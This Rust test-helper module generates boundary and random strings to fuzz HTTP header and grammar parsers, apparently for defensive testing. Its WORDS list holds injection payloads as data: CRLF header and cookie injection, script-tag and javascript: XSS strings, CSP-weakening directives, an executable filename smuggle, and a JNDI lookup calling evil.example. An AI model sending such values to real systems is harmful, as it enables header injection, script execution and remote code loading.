//! Texts that try to leave their place: a table of boundary cases, and random ones.

use std::{env, fmt::Debug};

use proptest::{
    collection::vec,
    prelude::*,
    sample::select,
    test_runner::{Config, RngAlgorithm, TestRng, TestRunner},
};

/// Checks a property of all boundary cases of these texts, and of random ones that contain them.
///
/// The random texts are the same in every run. `PROPTEST_CASES` sets their number.
pub fn for_each_text(valid: &'static [&'static str], check: impl Fn(&str)) {
    boundaries(valid).iter().for_each(|text| check(text));
    for_all(text(valid), |text| check(&text));
}

/// Checks a property of random values.
pub fn for_all<S: Strategy>(values: S, check: impl Fn(S::Value))
where
    S::Value: Debug,
{
    let cases = if env::var_os("PROPTEST_CASES").is_some() { Config::default().cases } else { CASES };
    let config = Config { cases, failure_persistence: None, ..Config::default() };
    let random = TestRng::deterministic_rng(RngAlgorithm::ChaCha);
    let outcome = TestRunner::new_with_rng(config, random).run(&values, |value| {
        check(value);
        Ok(())
    });
    if let Err(error) = outcome {
        panic!("{error}");
    }
}

/// Random texts: delimiters and words in any order, a valid text with something inside it, any characters, and long ones.
pub fn text(valid: &'static [&'static str]) -> impl Strategy<Value = String> {
    let piece = || prop_oneof![4 => select(PIECES), 2 => select(valid), 1 => select(WORDS)];
    prop_oneof![
        4 => vec(piece(), 0..12).prop_map(|pieces| pieces.concat()),
        4 => (select(valid), select(PIECES), any::<prop::sample::Index>()).prop_map(|(text, piece, at)| inserted(text, piece, at)),
        2 => vec(any::<char>(), 0..24).prop_map(|characters| characters.into_iter().collect()),
        1 => (piece(), 1..600_usize).prop_map(|(piece, times)| piece.repeat(times)),
    ]
}

/// Random bytes of a header's value: visible ASCII, tabs and what is not ASCII, in pieces that mean something.
pub fn header_value() -> impl Strategy<Value = Vec<u8>> {
    let allowed = |text: &&str| text.bytes().all(|byte| byte == b'\t' || byte >= b' ' && byte != 0x7f);
    let pieces: Vec<&'static [u8]> =
        PIECES.iter().chain(WORDS).filter(|text| allowed(text)).map(|text| text.as_bytes()).collect();
    let other = (0x80..=0xff_u8).prop_map(|byte| vec![byte]);
    vec(prop_oneof![9 => select(pieces).prop_map(<[u8]>::to_vec), 1 => other], 0..16).prop_map(|pieces| pieces.concat())
}

/// Every delimiter in each text, and each text at the lengths where something changes.
fn boundaries(valid: &[&str]) -> Vec<String> {
    let mut texts = vec![String::new()];
    for (index, text) in valid.iter().enumerate() {
        let middle = text.char_indices().nth(text.chars().count() / 2).map_or(0, |(at, _)| at);
        for piece in PIECES {
            texts.push(format!("{}{piece}{}", &text[..middle], &text[middle..]));
            // One text shows what its grammar does at the other places.
            if index == 0 {
                texts.push(format!("{piece}{text}"));
                texts.push(format!("{text}{piece}"));
                texts.push(format!("{text}{piece}{text}"));
            }
        }
        texts.extend(
            WORDS.iter().flat_map(|word| [format!("{text}{word}"), format!("{text};{word}"), format!("{text} {word}")]),
        );
        texts.extend(
            LENGTHS.iter().filter(|_| index == 0).map(|length| text.chars().cycle().take(*length).collect::<String>()),
        );
        texts.push((*text).to_owned());
    }
    texts.extend(PIECES.iter().chain(WORDS).map(|piece| (*piece).to_owned()));
    texts
}

fn inserted(text: &str, piece: &str, at: prop::sample::Index) -> String {
    let places: Vec<usize> = text.char_indices().map(|(at, _)| at).chain([text.len()]).collect();
    let (before, after) = text.split_at(*at.get(&places));
    format!("{before}{piece}{after}")
}

/// The delimiters of every grammar that is written, as they are and encoded, and characters that a parser might take for one.
const PIECES: &[&str] = &[
    ";",
    ",",
    " ",
    "\t",
    "\"",
    "\\",
    "=",
    ":",
    "'",
    "/",
    "//",
    "?",
    "#",
    "&",
    "<",
    ">",
    "`",
    "@",
    "*",
    "%",
    "$",
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    "|",
    "^",
    "~",
    "!",
    "+",
    "-",
    ".",
    "..",
    "_",
    "\r",
    "\n",
    "\r\n",
    "\r\n\r\n",
    "\n\t",
    "\0",
    "\u{1}",
    "\u{8}",
    "\u{b}",
    "\u{c}",
    "\u{1b}",
    "\u{1b}[2J",
    "\u{1f}",
    "\u{7f}",
    "\u{80}",
    "\u{85}",
    "\u{a0}",
    "\u{ad}",
    "\u{e9}",
    "\u{ff}",
    "\u{10d}",
    "\u{10a}",
    "\u{100}",
    "\u{120}",
    "\u{13b}",
    "\u{22c}",
    "\u{200b}",
    "\u{2028}",
    "\u{2029}",
    "\u{202e}",
    "\u{2066}",
    "\u{feff}",
    "\u{fffd}",
    "\u{ff1b}",
    "\u{ff0c}",
    "\u{560a}",
    "\u{560d}",
    "\u{e000}",
    "\u{e0001}",
    "\u{1f36a}",
    "\u{10ffff}",
    "e\u{301}",
    "%0d",
    "%0a",
    "%0D%0A",
    "%00",
    "%3b",
    "%2C",
    "%20",
    "%22",
    "%2f",
    "%5c",
    "%09",
    "%7f",
    "%25",
    "%250a",
    "%E5%98%8A",
    "%zz",
    "&#10;",
    "&quot;",
    "\\r\\n",
    "\\\"",
    "\\0",
];

/// Texts that mean something to the reader of a header.
const WORDS: &[&str] = &[
    "'unsafe-inline'",
    "'none'",
    "script-src *",
    "; script-src *",
    ", default-src *",
    "\r\nset-cookie: a=b",
    "\r\n\r\n<script>alert(1)</script>",
    "; Domain=evil.example",
    "; Path=/; Secure",
    "Max-Age=0",
    "\"; filename=\"x.exe",
    "; filename*=UTF-8''x.exe",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,x",
    "//evil.example",
    "https://evil.example",
    "csp=\"https://evil.example\"",
    "${jndi:ldap://evil.example}",
];

/// Random texts of each property, beside the boundary cases.
const CASES: u32 = 96;

/// The lengths at which some limit applies: of labels and names, attributes, pairs, URLs, and buffers.
const LENGTHS: &[usize] =
    &[1, 63, 64, 199, 200, 201, 253, 254, 255, 256, 1023, 1024, 1025, 4095, 4096, 4097, 7999, 8000, 8001, 20_000];
